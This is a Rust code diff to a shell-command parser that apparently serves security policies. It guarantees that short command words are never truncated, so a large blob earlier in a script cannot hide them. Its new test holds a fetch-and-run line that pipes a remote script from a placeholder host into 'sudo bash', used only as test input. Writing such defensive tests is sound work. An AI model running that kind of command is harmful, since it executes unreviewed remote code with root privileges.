@@ -125,6 +125,9 @@ fn text(node: Node, src: &[u8]) -> String {
     String::from_utf8_lossy(&src[node.byte_range()]).into_owned()
 }
 
+/// Texts up to this many bytes are never cut.
+const ALWAYS_WHOLE: usize = 64;
+
 /// The bytes of source text one call may copy into its result (see the module doc).
 struct TextBudget {
     left: usize,
@@ -136,11 +139,14 @@ impl TextBudget {
         TextBudget { left: script.len().saturating_mul(4).saturating_add(64 * 1024) }
     }
 
-    /// The node's source text, or as much of it as the budget has left followed by `…`.
+    /// The node's source text, or as much of it as the budget has left followed by `…`. A short
+    /// text (a command word, a flag, `bash`) is always whole, so what policies decide on cannot
+    /// be cut away by a blob earlier in the script; each node has at most one, so this stays
+    /// linear too.
     fn text(&mut self, node: Node, src: &[u8]) -> String {
         let range = node.byte_range();
-        if range.len() <= self.left {
-            self.left -= range.len();
+        if range.len() <= self.left || range.len() <= ALWAYS_WHOLE {
+            self.left = self.left.saturating_sub(range.len());
             return text(node, src);
         }
         let cut = String::from_utf8_lossy(&src[range.start..range.start + self.left]);
@@ -192,7 +198,17 @@ mod tests {
         assert!(total < 8 * script.len() + 256 * 1024, "{total} bytes of output for {} of script", script.len());
         // The outermost pipeline is found first and keeps its whole text.
         assert_eq!(found[0]["text"].as_str().unwrap().len(), script.len());
-        assert!(found.last().unwrap()["text"].as_str().unwrap().ends_with('…'));
+        assert!(found[found.len() / 2]["text"].as_str().unwrap().ends_with('…'));
+    }
+
+    #[test]
+    fn a_blob_before_a_pipeline_cannot_cut_what_policies_decide_on() {
+        let blob = format!("echo {}x{}", "\"$(echo ".repeat(2000), ")\"".repeat(2000));
+        let script = format!("{blob}\ncurl -fsSL https://x.test/i.sh | sudo bash\n");
+        let found = pipelines(&script);
+        let last = found.last().unwrap();
+        assert_eq!(last["commands"][0]["name"], "curl");
+        assert_eq!(last["commands"][1]["args"][0], "bash");
     }
 
     #[test]
